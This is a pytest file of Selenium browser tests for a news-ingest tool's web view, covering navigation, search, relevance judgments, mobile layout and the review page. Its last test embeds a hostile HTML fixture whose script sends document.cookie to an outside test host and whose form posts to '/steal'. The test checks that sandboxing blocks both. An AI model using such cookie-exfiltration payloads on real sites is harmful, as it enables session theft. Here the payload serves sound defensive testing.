"""The web view in a real browser (Debian's chromium driven by Selenium through chromium-driver):
walk the pages, search, judge an article not relevant and see it leave the corpus view.

Screenshots go to the test's temporary folder; with INGEST_SCREENSHOTS=DIR they are also
copied there (that is how docs/web-*.png in the README are made)."""

from __future__ import annotations

import os
import shutil
import signal

import pytest

from tests.conftest import build_news_web, run_cli, write_config
from tests.out.test_web import _free_port, _serve

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
DRIVER = shutil.which("chromedriver")

pytestmark = pytest.mark.skipif(not (CHROMIUM and DRIVER),
                                reason="no browser: install Debian's chromium and chromium-driver (.ci/run does)")


@pytest.fixture
def browser():
    webdriver = pytest.importorskip("selenium.webdriver")
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
                "--window-size=1100,900", "--disable-extensions", "--no-first-run"):
        options.add_argument(arg)
    driver = webdriver.Chrome(service=Service(DRIVER), options=options)
    driver.set_page_load_timeout(60)
    yield driver
    driver.quit()


def _shot(driver, tmp_path, name: str) -> None:
    path = tmp_path / f"web-{name}.png"
    driver.save_screenshot(str(path))
    assert path.stat().st_size > 5000  # a rendered page, not a blank one
    if os.environ.get("INGEST_SCREENSHOTS"):
        shutil.copy(path, os.environ["INGEST_SCREENSHOTS"])


def _after(browser, url_part: str, css: str):
    """Wait on the page, not the clock: a click or a submit returns before the next page is there."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    WebDriverWait(browser, 60).until(lambda d: url_part in d.current_url and d.find_elements(By.CSS_SELECTOR, css))
    return browser.find_elements(By.CSS_SELECTOR, css)


def _polled_and_served(tmp_path, web):
    """The news web polled (four articles kept) and `ingest serve` on a free port: (address, process)."""
    news = build_news_web(web)
    cfg = write_config(tmp_path, news.feeds)
    assert run_cli("--config", str(cfg), "poll", "--json").json()["kept"] == 4
    listen = f"127.0.0.1:{_free_port()}"
    return listen, _serve(cfg, listen)


def test_walk_search_and_judge_in_a_browser(tmp_path, seeds_dir, web, browser):
    from selenium.webdriver.common.by import By

    listen, proc = _polled_and_served(tmp_path, web)
    try:
        browser.get(f"http://{listen}/")
        links = browser.find_elements(By.CSS_SELECTOR, "article.card h2 a")
        assert len(links) == 4
        _shot(browser, tmp_path, "corpus")
        title = links[0].text
        links[0].click()
        assert _after(browser, "/a/", "h1")[0].text == title
        assert "against threshold" in browser.page_source
        _shot(browser, tmp_path, "article")
        # search from the header
        box = browser.find_element(By.CSS_SELECTOR, "header input[name=q]")
        box.send_keys("gold")
        box.submit()
        assert _after(browser, "/search", ".snippet mark")
        _shot(browser, tmp_path, "search")
        for path in ("/feeds", "/review", "/near-misses", "/digests"):
            browser.get(f"http://{listen}{path}")
            assert browser.find_element(By.TAG_NAME, "h1").text
        # judge the article not relevant: it leaves the corpus view
        browser.get(f"http://{listen}/")
        browser.find_elements(By.CSS_SELECTOR, "article.card h2 a")[0].click()
        _after(browser, "/a/", "button.no")[0].click()
        assert "Taken out of the corpus" in _after(browser, "done=", ".flash")[0].text
        browser.get(f"http://{listen}/")
        remaining = [a.text for a in browser.find_elements(By.CSS_SELECTOR, "article.card h2 a")]
        assert len(remaining) == 3 and title not in remaining
        # the page asked for nothing but its own stylesheet
        logs = browser.execute_script("return performance.getEntriesByType('resource').map(e => e.name)")
        assert all(u.startswith(f"http://{listen}/") for u in logs), logs
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.communicate(timeout=30)


def test_no_page_is_wider_than_a_phone(tmp_path, seeds_dir, web, browser):
    """At 375 px (a small phone), no page scrolls sideways: the feeds table, a 300-character title, long
    URLs, a long site name in the corpus page's site filter; the minimum-score box shows its whole label."""
    from tests.support.web import article_page, article_text, rss

    news = build_news_web(web)
    h = web.host(8)
    title, body = article_text("on_hyesan_gold")
    long_title = ("North Korea's Hyesan gold mines expand " * 8)[:300]
    page = h.add("/" + "very-long-path-segment-" * 8 + ".html", article_page(long_title, body))
    unique = ("Miners at a gold mine near Unsan in North Korea work twelve-hour shifts, former workers said.\n\n"
              "The gold ore is carried out by hand and sold through traders to China, avoiding sanctions.\n\n"
              "Labour at the mine includes prisoners and students sent for mobilisation, a report found.")
    named = h.add("/named.html", article_page("Unsan gold mine workers describe shifts", unique,
                                               site="The Internationalised Review of Mining Labour Rights Affairs"))
    feed = h.add("/feed.xml?token=abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz",
                 rss("A feed with a rather long name that goes on", [{"title": long_title, "link": page, "guid": "x"},
                                                                     {"title": "named", "link": named, "guid": "y"}]),
                 content_type="application/rss+xml")
    cfg = write_config(tmp_path, news.feeds + [feed], "[relevance]\nthreshold = 0.1\n")
    assert run_cli("--config", str(cfg), "poll").code == 0
    assert run_cli("--config", str(cfg), "digest").code == 0
    listen = f"127.0.0.1:{_free_port()}"
    proc = _serve(cfg, listen)
    try:
        browser.execute_cdp_cmd("Emulation.setDeviceMetricsOverride",
                                {"width": 375, "height": 812, "deviceScaleFactor": 1, "mobile": True})
        browser.get(f"http://{listen}/")
        sites = [o.text for o in browser.find_elements("css selector", "select[name=site] option")]
        assert any("Internationalised" in s for s in sites), sites
        box = browser.find_element("css selector", "input[name=min_score]")
        label = browser.execute_script(
            "const c = document.createElement('canvas').getContext('2d'); c.font = getComputedStyle(arguments[0]).font;"
            "return c.measureText(arguments[0].placeholder).width;", box)
        assert box.size["width"] >= label + 8, (box.size, label)  # "min score", not "min sc"
        articles = [a.get_attribute("href") for a in browser.find_elements("css selector", "article.card h2 a")]
        browser.get(f"http://{listen}/digests")
        digests = [a.get_attribute("href") for a in browser.find_elements("css selector", "main li a")]
        assert articles and digests
        for url in [f"http://{listen}{p}" for p in ("/", "/feeds", "/review", "/near-misses", "/search?q=gold",
                                                     "/digests")] + articles + digests:
            browser.get(url)
            width = browser.execute_script("return document.documentElement.scrollWidth")
            assert width <= 375, (url, width)
            if url.endswith("/feeds"):
                _shot(browser, tmp_path, "feeds-phone")
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.communicate(timeout=30)


def test_review_draws_the_model_and_apply_redecides_in_a_browser(tmp_path, seeds_dir, web, browser):
    """The review page in chromium: the model's histogram is drawn (an SVG made on the server, under the
    same CSP: no console error), the model box and every item give one threshold, and the Apply button
    re-decides the recent pages with a verdict given on the page and says what changed."""
    import re

    from selenium.webdriver.common.by import By

    listen, proc = _polled_and_served(tmp_path, web)
    try:
        browser.get(f"http://{listen}/review")
        chart = _after(browser, "/review", "figure.histogram svg")[0]
        assert chart.size["width"] > 200 and chart.size["height"] > 60  # drawn, not blocked
        assert browser.find_elements(By.CSS_SELECTOR, "figure.histogram svg rect")
        thresholds = set(re.findall(r"threshold (\d\.\d{3})", browser.find_element(By.TAG_NAME, "main").text))
        assert len(thresholds) == 1, thresholds  # the model box, the drawing and each item: one number
        # the same page has the same score on every page: the review's item, its own page, and the corpus list
        listed = re.findall(r"score (\d\.\d{3}) vs threshold (\d\.\d{3}) · (kept|not kept) · (p\d+)",
                            browser.find_element(By.TAG_NAME, "main").text)
        assert listed
        for score, threshold, _, ref in listed:
            browser.get(f"http://{listen}/p/{ref[1:]}")
            text = browser.find_element(By.TAG_NAME, "main").text
            assert f"score {score} against threshold {threshold}" in text, (ref, text)
            if "/a/" in browser.current_url:  # a kept page: the article, and its card in the corpus list
                aid = browser.current_url.rsplit("/", 1)[1].split("?")[0]
                browser.get(f"http://{listen}/")
                card = browser.find_element(By.CSS_SELECTOR, f'article.card:has(a[href="/a/{aid}"])').text
                assert f"score {score}" in card, (ref, card)
        browser.get(f"http://{listen}/review")
        _shot(browser, tmp_path, "review")
        # a verdict on the first item, then Apply
        browser.find_elements(By.CSS_SELECTOR, "article.card form button.no")[0].click()
        assert _after(browser, "done=", ".flash")
        browser.find_element(By.CSS_SELECTOR, "form.apply button").click()
        flash = _after(browser, "done=applied", ".flash")[0].text
        assert re.search(r"Applied: .* \d+ page\(s\) joined the corpus, \d+ left it", flash), flash
        errors = [e for e in browser.get_log("browser") if e["level"] == "SEVERE"]
        assert not errors, errors
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.communicate(timeout=30)


def test_an_archived_copy_runs_no_script_and_loads_nothing_from_outside(tmp_path, seeds_dir, web, browser):
    """The article page links "archived copy, DATE"; /a/ID/original serves the page as fetched, sandboxed:
    its script, inline handler, external image and form do nothing, and it cannot read the view's cookie."""
    import html as _html

    from selenium.common.exceptions import NoAlertPresentException, WebDriverException
    from selenium.webdriver.common.by import By

    from tests.support.web import article_text, rss

    site, outside = web.host(2), web.host(9)
    title, body = article_text("on_hyesan_gold")
    paras = "".join(f"<p>{_html.escape(p)}</p>" for p in body.split("\n\n"))
    hostile = (f"<!DOCTYPE html><html><head><title>{_html.escape(title)}</title>"
               f"<script>alert('script'); document.title = 'scripted';"
               f"fetch('{outside.url('/beacon')}?c=' + document.cookie)</script></head>"
               f"<body onload=\"alert('onload')\"><article><h1>{_html.escape(title)}</h1>{paras}"
               f"<img src=\"{outside.url('/pixel.png')}\" alt=\"\">"
               f"<form action=\"{outside.url('/steal')}\" method=\"post\"><input name=\"q\" value=\"x\">"
               f"<button id=\"go\" type=\"submit\">go</button></form></article></body></html>")
    page = site.add("/hostile.html", hostile)
    feed = site.add("/feed.xml", rss("F", [{"title": title, "link": page, "guid": "h"}]),
                    content_type="application/rss+xml")
    cfg = write_config(tmp_path, [feed])
    assert run_cli("--config", str(cfg), "poll", "--json").json()["kept"] == 1
    listen = f"127.0.0.1:{_free_port()}"
    proc = _serve(cfg, listen)
    try:
        browser.get(f"http://{listen}/")
        browser.add_cookie({"name": "view_secret", "value": "do-not-leak"})
        browser.find_elements(By.CSS_SELECTOR, "article.card h2 a")[0].click()
        link = _after(browser, "/a/", "a[href$='/original']")[0]
        assert link.text.startswith("archived copy, 20")
        link.click()
        _after(browser, "/original", "h1")
        with pytest.raises(NoAlertPresentException):
            browser.switch_to.alert.text  # noqa: B018 - no script ran: no dialog
        assert browser.title == title  # the script that renames it did not run
        browser.find_element(By.ID, "go").click()  # the form may not submit (sandbox, form-action 'none')
        try:
            cookie = browser.execute_script("return document.cookie")
        except WebDriverException:
            cookie = ""  # an opaque origin: reading cookies throws
        assert "do-not-leak" not in (cookie or "")
        assert "/original" in browser.current_url
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.communicate(timeout=20)
    assert outside.requests == []  # nothing loaded or sent outside the view's origin
